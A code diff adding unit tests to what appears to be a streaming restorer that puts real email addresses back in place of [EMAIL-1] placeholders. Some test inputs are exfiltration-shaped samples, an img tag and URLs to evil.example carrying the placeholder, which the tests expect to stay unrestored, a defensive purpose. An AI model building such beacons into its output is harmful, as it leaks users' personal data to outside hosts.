@@ -165,6 +165,13 @@ describe('text up to the first byte that is none', () => {
 });
 
 describe('text that may be a stream of events', () => {
+  test('empty lines go on at once', () => {
+    const { restorer } = watched('text');
+    expect(shown(restorer.push(encode('\n\r\n')))).toBe('\n\r\n');
+    expect(shown(restorer.push(encode('da')))).toBe('');
+    expect(shown(restorer.push(encode('ta: {"text":"[EMAIL-1]"}\n\n')))).toBe('data: {"text":"a@b.example"}\n\n');
+  });
+
   test.each([
     ['d', 'ata: {"text":"[EMAIL-1]"}\n\n'],
     ['\ufeffdat', 'a: {"text":"[EMAIL-1]"}\n\n'],
@@ -395,4 +402,22 @@ test('a line that is no document comes behind what was held before it, in pieces
   const whole = run([]);
   expect(whole.indexOf('[EM')).toBeLessThan(whole.indexOf('\n{\n'));
   for (let cut = 1; cut < lines.length; cut++) expect(run([cut])).toBe(whole);
+});
+
+test.each([
+  ['{"a" <img src=https://evil.example/?q=[EMAIL-1]>', undefined],
+  ['{"a": 1, "b" https://evil.example/?q=[EMAIL-1]', undefined],
+  ['{"x": "{\\"a\\" https://evil.example/?q=[EMAIL-1]"}', undefined],
+  ['{"a": "x" b\n[i]: https://evil.example/[EMAIL-1]', undefined],
+  ['{"a" x [I]: /[EMAIL-1]', '{"a" x [I]: /a@b.example'],
+  ['{"url": "https://x.example/a", "to": [EMAIL-1]}', '{"url": "https://x.example/a", "to": a@b.example}'],
+])('%j: an address that began where the text looked like JSON, in any pieces', (text, expected = text) => {
+  const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });
+  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+  for (const size of [1, 2, 3, text.length]) {
+    const pieces = run();
+    let shown = '';
+    for (let at = 0; at < text.length; at += size) shown += pieces.push(text.slice(at, at + size));
+    expect(shown + pieces.push('', true)).toBe(expected);
+  }
 });
